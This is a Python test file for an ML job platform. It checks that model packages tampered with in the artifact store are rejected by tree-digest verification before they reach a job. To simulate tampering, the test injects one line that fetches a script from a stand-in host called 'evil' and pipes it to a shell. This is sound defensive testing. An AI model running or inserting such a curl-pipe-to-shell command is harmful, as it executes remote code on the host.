"""A model package (and a dataset directory) is stored as a tree: the API records the tree's
digest when it stores it (``tree_sha256``), and the worker's copy into the job's directory is
checked against it, so a package changed in the store never reaches a job."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path
from types import SimpleNamespace

import pytest

from ace3.files import sha256_file
from ace3_control.storage import LocalArtifactStore, tree_digest
from ace3_server.services.artifacts import prepare_model
from ace3_server.services.uploads import StagedUpload
from ace3_worker.job_dir import InputCorruptedError, prepare_job_directory

SOURCE = b"def build_model():\n    return None\n"


def _package(tmp_path: Path) -> StagedUpload:
    """An uploaded package archive, staged as the API stages it."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in (("mypkg/__init__.py", b""), ("mypkg/model.py", SOURCE)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path = tmp_path / "upload.tar.gz"
    path.write_bytes(buffer.getvalue())
    return StagedUpload(path, sha256_file(path), path.stat().st_size)


def test_a_package_is_fetched_only_as_the_api_stored_it(tmp_path: Path) -> None:
    staging = tmp_path / "staging"
    staging.mkdir()
    staged = _package(tmp_path)
    prepared = prepare_model(
        staged, owner_id="o", filename="pkg.tar.gz", factory="build_model",
        entry_module="mypkg.model", staging_dir=staging, max_extracted_bytes=1 << 20,
    )  # fmt: skip
    recorded = prepared.fields["tree_sha256"]
    assert recorded == tree_digest(prepared.source)
    store = LocalArtifactStore(tmp_path / "store")
    store.put_file(prepared.storage_key, prepared.source)
    (tmp_path / "data.npz").write_bytes(b"data")
    store.put_file("datasets/o/d/data.npz", tmp_path / "data.npz")
    model = SimpleNamespace(
        id="m", filename="pkg.tar.gz", storage_key=prepared.storage_key, sha256=staged.sha256,
        tree_sha256=recorded, kind="archive", entry_module="mypkg.model", factory="build_model",
    )  # fmt: skip
    data = SimpleNamespace(
        id="d", filename="data.npz", storage_key="datasets/o/d/data.npz", kind="file",
        sha256=sha256_file(tmp_path / "data.npz"),
    )  # fmt: skip
    job = SimpleNamespace(id="job1", config={}, model_kwargs={}, micro_batch_halvings=0)
    (tmp_path / "work").mkdir()

    def prepare(attempt: int) -> Path:
        directory = prepare_job_directory(
            tmp_path / "work", store, job, attempt, model, data, None, None,  # type: ignore[arg-type]
        )  # fmt: skip
        return directory.root

    root = prepare(1)
    assert (root / "code" / "package" / "mypkg" / "model.py").read_bytes() == SOURCE

    stored = store.root / prepared.storage_key / "mypkg" / "model.py"
    os.chmod(stored, 0o644)
    stored.write_bytes(SOURCE + b"import os; os.system('curl evil | sh')\n")
    with pytest.raises(InputCorruptedError, match=f"stored tree {prepared.storage_key}"):
        prepare(2)
    assert not (tmp_path / "work" / "job1" / "attempt-2" / "code" / "package").exists()
